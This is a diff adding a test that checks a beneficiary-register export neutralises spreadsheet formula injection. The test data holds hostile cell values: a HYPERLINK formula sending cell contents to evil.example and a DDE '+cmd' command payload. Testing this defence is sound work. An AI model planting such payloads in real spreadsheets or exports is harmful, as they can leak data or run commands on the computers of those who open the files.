@@ -1,4 +1,5 @@
 import ExcelJS from 'exceljs';
+import { registerExport } from '#read-models';
 import { API_BACKENDS, caughtUp, client, countEvents, leavesLogUnchanged as leavesLogUnchangedIn, ok, type Reply, type RunningApi, signInPeople, startApi } from './testing/api-backends.fixture.js';
 import { bombOf, entryOf, rowXml, SHEET, SHEET_HEAD, SHEET_TAIL, WORKBOOK_PARTS, workbookOf, zipOf } from './testing/workbook-files.fixture.js';
 
@@ -148,5 +149,25 @@ describe.each(API_BACKENDS)('importing beneficiary lists from Excel, over %s', (
     expect(await ok(as.clerk.upload('/beneficiaries/imports?validRowsOnly=true', list, 'cong-thuc.xlsx'))).toMatchObject({ imported: 1, skipped: 1 });
     await caughtUp(api);
     expect((await ok(as.auditor.get('/beneficiaries?name=Hoàng Thị Hoa'))).beneficiaries).toEqual([expect.objectContaining({ dateOfBirth: '1985-03-04' })]);
+  });
+
+  it('exports the register with every text cell that could run as a formula neutralised, and takes the export back as it is', async () => {
+    const list = await listOf([
+      ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', '05/05/1985', '020085000505', "+cmd|' /C calc'!A0", '@SUM(1+1)', 4, '01/01/2025'],
+      ['-2+3', '06/06/1986', '020086000606', '=1+1', 'Huyện Bắc Sơn', 4, '01/01/2025'],
+    ]);
+    await ok(as.clerk.upload('/beneficiaries/imports', list, 'doc-hai.xlsx'));
+    await caughtUp(api);
+
+    const csv = ((await registerExport(api.runtime.pool, 'csv')).body as string).split('\r\n');
+    expect(csv.find((line) => line.includes('020085000505'))).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\/\?""&A1,""Xem""\)",05\/05\/1985,020085000505,'\+cmd\|' \/C calc'!A0,'@SUM\(1\+1\),4,01\/01\/2025,registered,/);
+    expect(csv.find((line) => line.includes('020086000606'))).toMatch(/^'-2\+3,06\/06\/1986,020086000606,'=1\+1,Huyện Bắc Sơn,4,/);
+
+    const exported = (await registerExport(api.runtime.pool, 'xlsx')).body as Buffer;
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(exported as unknown as ArrayBuffer);
+    const rows = book.worksheets[0]!.getSheetValues().filter((row) => Array.isArray(row) && row.includes('020085000505'));
+    expect(rows).toEqual([[undefined, `'=HYPERLINK("http://evil.example/?"&A1,"Xem")`, '05/05/1985', '020085000505', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", 4, '01/01/2025', 'registered', expect.any(String)]]);
+    await leavesLogUnchanged(as.clerk.upload('/beneficiaries/imports', new Uint8Array(exported), 'so-dang-ky.xlsx'), 200, { outcome: 'imported', imported: 0, errors: [] });
   });
 });
